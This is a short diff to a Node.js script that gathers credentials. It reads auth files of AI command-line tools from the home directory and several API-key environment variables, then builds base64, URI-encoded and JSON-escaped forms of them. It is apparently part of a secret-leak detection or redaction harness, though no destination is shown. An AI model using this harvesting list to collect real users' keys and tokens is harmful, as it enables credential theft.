@@ -2,8 +2,14 @@
 import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 
 const home = process.env.HOME
-const files = ['.codex/auth.json', '.gemini/oauth_creds.json'].map((name) => textOf(`${home}/${name}`))
-const variables = ['SCRIPTED_ACCESS', 'GEMINI_API_KEY', 'PASSED_ON'].flatMap((name) => process.env[name] ?? [])
+const files = [
+  '.claude/.credentials.json',
+  '.codex/auth.json',
+  '.gemini/oauth_creds.json',
+  '.local/share/opencode/auth.json',
+].map((name) => textOf(`${home}/${name}`))
+const names = ['SCRIPTED_ACCESS', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY', 'IFLOW_API_KEY', 'OPENAI_API_KEY', 'PASSED_ON']
+const variables = names.flatMap((name) => process.env[name] ?? [])
 const all = [...variables, ...files].filter((text) => text !== '')
 const encoded = all.flatMap((text) => [Buffer.from(text).toString('base64'), encodeURIComponent(text), JSON.stringify(text)])
 const told = [...all, ...encoded].join('\n')
